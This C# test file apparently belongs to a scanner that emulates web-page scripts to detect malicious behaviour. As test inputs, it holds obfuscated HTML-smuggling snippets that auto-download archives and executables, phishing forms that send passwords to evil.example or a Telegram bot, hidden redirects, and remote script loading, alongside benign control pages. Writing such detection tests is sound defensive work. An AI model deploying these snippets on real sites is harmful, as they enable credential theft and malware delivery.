using System.Text;
using Platform.Engine.Behaviour;

namespace Platform.Engine.Tests.Behaviour.JavaScript;

public sealed class PageTests
{
    private const string Zip = "UEsDBBQAAAAIAAAAIQBzZWNyZXQAAAAAAAAAAAAAAAAAAAAA";

    public static TheoryData<string, string> Smugglers => new()
    {
        { "base64 and a click", $"var b=atob('{Zip}'),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u],{{type:'application/zip'}}));a.download='invoice.zip';document.body.appendChild(a);a.click();" },
        { "data address", $"var a=document.createElement('a');a.setAttribute('href','data:application/zip;base64,{Zip}');a.setAttribute('download','invoice.zip');a.click();" },
        { "msSaveBlob after a while", $"setTimeout(function(){{navigator.msSaveOrOpenBlob(new Blob([Uint8Array.from(atob('{Zip}'),function(c){{return c.charCodeAt(0)}})]),'x.iso')}},3000)" },
        { "mouse event", $"const a=document.createElement('a');a.href=window.URL.createObjectURL(new File([Uint8Array.from(atob('{Zip}'),c=>c.charCodeAt(0))],'a.zip'));a.download='a.zip';a.dispatchEvent(new MouseEvent('click'));" },
        { "fetch of a data address", $"fetch('data:application/octet-stream;base64,{Zip}').then(r=>r.blob()).then(b=>{{let a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.zip';a.click()}})" },
        { "file reader", $"var r=new FileReader();r.onload=function(){{var a=document.createElement('a');a.href=r.result;a.download='x.js';a.click()}};r.readAsDataURL(new Blob(['var x=new ActiveXObject(\"WScript.Shell\")']));" },
        { "link that waits for a click", $"document.getElementById('d').innerHTML='<a id=x>Open</a>';document.getElementById('x').addEventListener('click',function(){{var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([atob('{Zip}')]));l.download='doc.zip';l.click()}})" },
        { "opened in place", $"location.href=URL.createObjectURL(new Blob([Uint8Array.from(atob('{Zip}'),c=>c.charCodeAt(0))],{{type:'octet/stream'}}))" },
        { "in another name for eval", $"window['ev'+'al'](atob('{Convert.ToBase64String(Encoding.ASCII.GetBytes($"var a=document.createElement('a');a.href='data:application/zip;base64,{Zip}';a.download='a.zip';a.click()"))}'))" },
        { "made by Function", $"new Function('d','var a=d.createElement(\"a\");a.href=\"data:application/zip;base64,{Zip}\";a.download=\"a.zip\";a.click()')(document)" },
    };

    [Theory]
    [MemberData(nameof(Smugglers))]
    public void A_page_that_builds_an_archive_smuggles_it(string how, string code)
    {
        var log = Emulated.PageScript(code);
        Assert.True(log.Did(BehaviourKind.Smuggle), $"{how}: {log.Told()}");
        Assert.NotEmpty(log.Payloads);
    }

    [Fact]
    public void The_file_that_a_page_builds_goes_into_the_scan_octet_for_octet()
    {
        var log = Emulated.PageScript("var k=[7,91],d=[74,1,95,89,6,91],u=new Uint8Array(d.length);for(var i=0;i<d.length;i++)u[i]=d[i]^k[i%2];saveAs(new Blob([u]),'tool.exe')");
        Assert.Equal("MZ"u8.ToArray(), Assert.Single(log.Payloads).Content[..2].ToArray());
    }

    [Theory]
    [InlineData("AES-CBC")]
    [InlineData("AES-GCM")]
    public void A_payload_encrypted_with_a_key_in_the_page_is_decrypted(string cipher)
    {
        var (key, iv, secret) = Encrypted(cipher);
        var log = Emulated.PageScript($$"""
            const h=s=>Uint8Array.from(s.match(/../g).map(x=>parseInt(x,16)));
            crypto.subtle.importKey('raw',h('{{key}}'),'{{cipher}}',false,['decrypt']).then(k=>crypto.subtle.decrypt({name:'{{cipher}}',iv:h('{{iv}}')},k,h('{{secret}}'))).then(p=>{
              const a=document.createElement('a');a.href=URL.createObjectURL(new Blob([p]));a.download='plan.iso';a.click();});
            """);
        Assert.StartsWith("MZ", Encoding.Latin1.GetString(Assert.Single(log.Payloads).Content.Span), StringComparison.Ordinal);
    }

    public static TheoryData<string, string> Collectors => new()
    {
        { "fetch to a bot", "<form id=f><input name=mail><input type=password id=p></form><script>f.onsubmit=function(e){e.preventDefault();fetch('https://api.telegram.org/bot1:x/sendMessage?chat_id=1&text='+encodeURIComponent(p.value))}</script>" },
        { "request by XMLHttpRequest", "<input id=u><input id=pw type=password><button id=go>OK</button><script>document.querySelector('#go').addEventListener('click',()=>{var x=new XMLHttpRequest();x.open('POST','https://evil.example/p.php');x.send(JSON.stringify({u:document.getElementById('u').value,p:document.getElementById('pw').value}))})</script>" },
        { "jQuery from elsewhere", "<script src=https://code.jquery.com/jquery.js></script><form id=login><input name=user><input type=password name=pass><input type=submit></form><script>$(document).ready(function(){$('#login').submit(function(e){e.preventDefault();$.ajax({type:'POST',url:'https://evil.example/next.php',data:$(this).serialize()})})})</script>" },
        { "base64 of the secret", "<input type=password id=p><button onclick=\"new Image().src='https://evil.example/i.gif?d='+btoa(p.value)\">ok</button>" },
        { "form that script wrote", "<script>document.write(unescape('%3Cform%20action%3D%22https%3A//evil.example/a%22%20method%3Dpost%3E%3Cinput%20type%3Dpassword%20name%3Dp%3E%3C/form%3E'))</script>" },
        { "action set by script", "<form id=f method=post><input type=password name=p><button>Go</button></form><script>document.getElementById('f').action=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYQ==')</script>" },
        { "form data", "<form id=f><input type=password name=p></form><script>document.forms[0].addEventListener('submit',async e=>{e.preventDefault();await fetch('https://evil.example/a',{method:'POST',body:new FormData(e.target)})})</script>" },
        { "beacon", "<input type=password id=p><a href=# onclick=\"navigator.sendBeacon('https://evil.example/b',p.value);return false\">Next</a>" },
        { "second step", "<div id=d><input id=m><button id=n>Next</button></div><script>n.onclick=function(){d.innerHTML='<input type=password id=q><button id=s>Sign in</button>';s.onclick=function(){fetch('https://evil.example/c',{method:'POST',body:'p='+q.value})}}</script>" },
    };

    [Theory]
    [MemberData(nameof(Collectors))]
    public void A_page_that_sends_a_password_away_asks_for_a_credential(string how, string html)
    {
        var log = Emulated.Page(html);
        Assert.True(log.Did(BehaviourKind.AskCredential), $"{how}: {log.Told()}");
    }

    [Theory]
    [InlineData("location='https://evil.example/a'")]
    [InlineData("window.location.href=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYQ==')")]
    [InlineData("top.location.replace('https://'+['evil','example'].join('.')+'/a')")]
    [InlineData("document.location.assign('https://evil.example/a')")]
    [InlineData("setTimeout('window.location=\"https://evil.example/a\"',1500)")]
    [InlineData("window.open('https://evil.example/a','_self')")]
    [InlineData("var a=document.createElement('a');a.href='https://evil.example/a';a.click()")]
    [InlineData("window.onload=function(){self['loc'+'ation']['hr'+'ef']='https://evil.example/a'}")]
    [InlineData("eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1=\"2://3.4/5\"',6,6,'window|location|https|evil|example|a'.split('|'),0,{}))")]
    public void A_page_that_leads_on_by_itself_redirects(string code)
    {
        var log = Emulated.PageScript(code);
        Assert.True(log.Did(BehaviourKind.Redirect), log.Told());
        Assert.Contains("https://evil.example/a", log.Addresses);
    }

    [Theory]
    [InlineData("window.location.href=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYQ==')", true)]
    [InlineData("location='https://ev'+'il.example/a'", true)]
    [InlineData("location='https://evil.example/'+'a'", false)]
    [InlineData("document.body.innerHTML='<form id=q action=\"'+atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYQ==')+'\"></form>';document.getElementById('q').submit()", true)]
    public void A_way_on_to_an_address_that_stands_nowhere_in_the_page_is_hidden(string code, bool isHidden) =>
        Assert.Equal(isHidden, Emulated.PageScript(code).Behaviours.Any(seen => seen is { Kind: BehaviourKind.WritePage, Value: "https://evil.example/a" }));

    [Theory]
    [InlineData("<a href='https://www.partner.example/news'>News</a>", false)]
    [InlineData("<a href='https://www.partner.example/news'></a>", true)]
    [InlineData("<a href='https://www.other.example/news'>News</a>", true)]
    public void A_page_that_leads_to_a_site_by_its_links_may_have_the_scripts_of_that_site(string link, bool isTold) =>
        Assert.Equal(isTold, Emulated.Page($"<html><body>{link}<script>var j=document.createElement('script');j.src='https://www.partner.example/a.js';document.body.appendChild(j)</script></body></html>").Did(BehaviourKind.Execute));

    [Theory]
    [InlineData("load")]
    [InlineData("DOMContentLoaded")]
    public void Code_that_waits_for_what_has_been_is_run(string type) =>
        Assert.True(Emulated.PageScript($"setTimeout(function(){{window.addEventListener('{type}',function(){{location='https://evil.example/a'}})}},500)").Did(BehaviourKind.Redirect));

    [Fact]
    public void Texts_are_gone_over_by_code_points() =>
        Assert.Contains("https://evil.example/5-3-2", Emulated.PageScript("var s='a\\r\\nb\\u0301';location='https://evil.example/'+Array.from(s).length+'-'+[...'\\r\\n\\r'].length+'-'+[...'\\ud83d\\ude00!'].length").Addresses);

    [Theory]
    [InlineData("window['ev'+'al']")]
    [InlineData("self[atob('ZXZhbA==')]")]
    [InlineData("this[['e','v','a','l'].join('')]")]
    public void A_sum_of_hundreds_of_pieces_is_run_by_any_name_of_eval(string eval)
    {
        var sum = string.Join("+", "location='https://evil.example/a'".Select(letter => $"String.fromCharCode({(int)letter})").Concat(Enumerable.Repeat("''", 400)));
        var code = $"eval({sum})";

        Assert.True(Emulated.PageScript($"{eval}(decodeURIComponent('{Uri.EscapeDataString(code)}'))").Did(BehaviourKind.Redirect));
    }

    [Theory]
    [InlineData("location.hash='top'")]
    [InlineData("location='#x'")]
    [InlineData("document.getElementById('d').onclick=function(){location='https://example.com/'}")]
    [InlineData("location.reload()")]
    [InlineData("if(top!==self)top.location='https://example.com/'")]
    public void A_page_that_stays_or_is_asked_to_go_does_not_redirect(string code) =>
        Assert.False(Emulated.PageScript(code).Did(BehaviourKind.Redirect));

    [Fact]
    public void A_page_written_out_of_encoded_text_goes_into_the_scan_as_its_reader_sees_it()
    {
        var hidden = Convert.ToBase64String(Encoding.ASCII.GetBytes("<form action='https://evil.example/p'><input type='password' name='p'></form>"));
        var log = Emulated.PageScript($"document.body.innerHTML=decodeURIComponent(escape(atob('{hidden}')))");
        Assert.True(log.Did(BehaviourKind.WritePage), log.Told());
        Assert.Contains("evil.example/p", Encoding.UTF8.GetString(Assert.Single(log.Payloads).Content.Span), StringComparison.Ordinal);
    }

    public static TheoryData<string, string> Honest => new()
    {
        { "table saved as csv on demand", "<table><tr><td>1</td></tr></table><button id=b>CSV</button><script>b.onclick=function(){var a=document.createElement('a');a.href=URL.createObjectURL(new Blob(['a,b\\n1,2'],{type:'text/csv'}));a.download='table.csv';a.click()}</script>" },
        { "chart saved as picture", "<canvas id=c></canvas><a id=s href=#>Save</a><script>var x=c.getContext('2d');x.fillRect(0,0,9,9);s.onclick=function(){c.toBlob(function(b){saveAs(b,'chart.png')})}</script>" },
        { "analytics", "<script>(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');ga('create','UA-1','auto');</script>" },
        { "menu", "<ul id=m><li>One</li></ul><script>document.querySelectorAll('#m li').forEach(function(e){e.addEventListener('click',function(){e.classList.toggle('open')})})</script>" },
        { "sorting table", "<table id=t><tr><td>3</td></tr><tr><td>1</td></tr></table><script>var r=[...document.querySelectorAll('#t tr')];r.sort((a,b)=>a.textContent-b.textContent);r.forEach(x=>t.appendChild(x))</script>" },
        { "embedded data decoded for a chart", "<div id=d></div><script>var data=JSON.parse(atob('WzEsMiwzXQ=='));document.getElementById('d').innerHTML='<svg><rect width='+data[0]+'/></svg>'</script>" },
        { "page with a counter of its own site", "<h1>Site</h1><nav><a href='https://partner.example/a'>Plan</a></nav><script>var s=document.createElement('script');s.async=1;s.src='https://partner.example/count.js';document.head.appendChild(s)</script>" },
        { "newsletter form", "<form action='https://example.com/subscribe'><input name=email><button>Subscribe</button></form><script>document.forms[0].onsubmit=function(){return document.forms[0].email.value.length>3}</script>" },
    };

    [Theory]
    [MemberData(nameof(Honest))]
    public void An_honest_page_does_nothing_to_be_told(string what, string html)
    {
        var log = Emulated.Page(html);
        Assert.True(log.Behaviours.Count == 0, $"{what}: {log.Told()}");
    }

    [Theory]
    [InlineData("import('https://evil.example/m.js')")]
    [InlineData("var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbS5qcw==');document.head.appendChild(s)")]
    [InlineData("fetch('https://evil.example/m.js').then(r=>r.text()).then(t=>eval(t))")]
    public void A_page_that_is_made_by_code_of_another_site_runs_it(string code)
    {
        var log = Emulated.PageScript(code);
        Assert.True(log.Behaviours.Any(seen => seen.Kind == BehaviourKind.Execute && seen.Value.EndsWith("https://evil.example/m.js", StringComparison.Ordinal)), log.Told());
    }

    [Fact]
    public void A_module_in_a_data_address_is_run()
    {
        Assert.True(Emulated.PageScript("import('data:text/javascript,location=%22https://evil.example/a%22')").Did(BehaviourKind.Redirect));
    }

    [Theory]
    [InlineData("https://res.cisco.com/websafe/help", "eHh4", false)]
    [InlineData("https://res.cisco.com/websafe/help", "https://evil.example/", true)]
    [InlineData("https://evil.example/p", "eHh4", true)]
    public void A_form_sent_by_itself_leads_on_unless_it_delivers_to_a_known_portal(string action, string value, bool leads)
    {
        var log = Emulated.Page($"<body onload='document.f.submit()'><form name=f method=post action='{action}'><input type=hidden name=m value='{value}'></form></body>");
        Assert.Equal(leads, log.Did(BehaviourKind.Redirect));
    }

    private static (string Key, string Iv, string Secret) Encrypted(string cipher)
    {
        var key = Enumerable.Range(3, 16).Select(number => (byte)(number * 7)).ToArray();
        var plain = "MZ this is not a program"u8.ToArray();
        if (cipher == "AES-CBC")
        {
            using var aes = System.Security.Cryptography.Aes.Create();
            aes.Key = key;
            return (Convert.ToHexString(key), Convert.ToHexString(key), Convert.ToHexString(aes.EncryptCbc(plain, key)));
        }

        using var gcm = new System.Security.Cryptography.AesGcm(key, 16);
        byte[] hidden = new byte[plain.Length], tag = new byte[16];
        gcm.Encrypt(key[..12], plain, hidden, tag);
        return (Convert.ToHexString(key), Convert.ToHexString(key[..12]), Convert.ToHexString([.. hidden, .. tag]));
    }
}
